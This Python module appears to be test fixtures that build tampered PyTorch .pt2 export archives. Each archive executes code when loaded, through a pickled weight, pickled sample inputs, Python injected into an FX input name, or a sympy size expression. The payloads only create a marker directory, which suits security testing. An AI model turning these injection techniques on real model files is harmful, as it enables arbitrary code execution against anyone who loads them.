"""Hostile .pt2 files, each an honest one with one thing changed."""

import io
import json
import os
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import torch

PROGRAM = "models/model.json"
WEIGHTS = "data/weights/model_weights_config.json"
CONSTANTS = "data/constants/model_constants_config.json"
SAMPLE_INPUTS = "data/sample_inputs/model.pt"


class SmallNet(torch.nn.Module):
    """Convolution, batch norm and a linear layer; a buffer and a lifted constant."""

    def __init__(self) -> None:
        super().__init__()
        self.conv = torch.nn.Conv2d(3, 8, 3)
        self.norm = torch.nn.BatchNorm2d(8)
        self.head = torch.nn.Linear(8, 4)
        self.scale = torch.ones(4)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.head(torch.relu(self.norm(self.conv(x))).mean((2, 3))) * self.scale


class _MakeDirectory:
    """Unpickles to a call of os.mkdir."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Callable[..., None], tuple[str]]:
        return os.mkdir, (str(self.marker),)


def export_small_net(path: Path) -> Path:
    """An honest .pt2 with a dynamic batch."""
    batch = torch.export.Dim.DYNAMIC
    program = torch.export.export(SmallNet().eval(), (torch.randn(2, 3, 8, 8),), dynamic_shapes=({0: batch},))
    torch.export.save(program, path)
    return path


def torch_save_that_makes(marker: Path) -> bytes:
    """A torch.save file that makes the marker when it is unpickled without restriction."""
    file = io.BytesIO()
    torch.save(_MakeDirectory(marker), file)
    return file.getvalue()


def rewrite(
    source: Path, target: Path, changes: Mapping[str, bytes | None], *, compression: int = zipfile.ZIP_STORED
) -> Path:
    """Copy the archive with members replaced, added, or (None) left out."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", compression) as new:
        root = old.namelist()[0].partition("/")[0]
        contents: dict[str, bytes | None] = {name.partition("/")[2]: old.read(name) for name in old.namelist()}
        for name, data in (contents | dict(changes)).items():
            if data is not None:
                new.writestr(f"{root}/{name}", data)
    return target


def edit_json(source: Path, target: Path, member: str, edit: Callable[[dict[str, Any]], None]) -> Path:
    """Copy the archive with one JSON member edited in place."""
    value = json.loads(read_member(source, member))
    edit(value)
    return rewrite(source, target, {member: json.dumps(value).encode()})


def read_member(source: Path, member: str) -> bytes:
    """The content of a member, named without the archive's root."""
    with zipfile.ZipFile(source) as archive:
        return archive.read(next(name for name in archive.namelist() if name.partition("/")[2] == member))


def pickled_weight(source: Path, target: Path, marker: Path) -> Path:
    """A weight marked use_pickle, which torch.export.load unpickles without restriction."""

    def mark(config: dict[str, Any]) -> None:
        config["config"]["head.bias"] |= {"use_pickle": True, "path_name": "weight_99"}

    edit_json(source, target, WEIGHTS, mark)
    return rewrite(
        source, target, {"data/weights/weight_99": torch_save_that_makes(marker), WEIGHTS: read_member(target, WEIGHTS)}
    )


def pickled_sample_inputs(source: Path, target: Path, marker: Path) -> Path:
    """Example inputs that the restricted unpickler refuses, so that torch.export.load tries without restriction."""
    return rewrite(source, target, {SAMPLE_INPUTS: torch_save_that_makes(marker)})


def code_in_a_name(source: Path, target: Path, marker: Path) -> Path:
    """An input whose name is Python: FX writes it into the source of forward and executes that."""
    evil = f"x=__import__('os').mkdir({str(marker)!r})"
    text = read_member(source, PROGRAM).decode().replace('"name": "x"', json.dumps({"name": evil})[1:-1])
    program = json.loads(text)
    tensors = program["graph_module"]["graph"]["tensor_values"]
    tensors[evil] = tensors.pop("x")
    return rewrite(source, target, {PROGRAM: json.dumps(program).encode()})


def code_in_a_size(source: Path, target: Path, marker: Path) -> Path:
    """A size that is Python: sympy evaluates it."""
    evil = f"__import__('os').mkdir({str(marker)!r})"

    def write(program: dict[str, Any]) -> None:
        program["graph_module"]["graph"]["tensor_values"]["x"]["sizes"][0]["as_expr"]["expr_str"] = evil

    return edit_json(source, target, PROGRAM, write)


ATTACKS = (pickled_weight, pickled_sample_inputs, code_in_a_name, code_in_a_size)
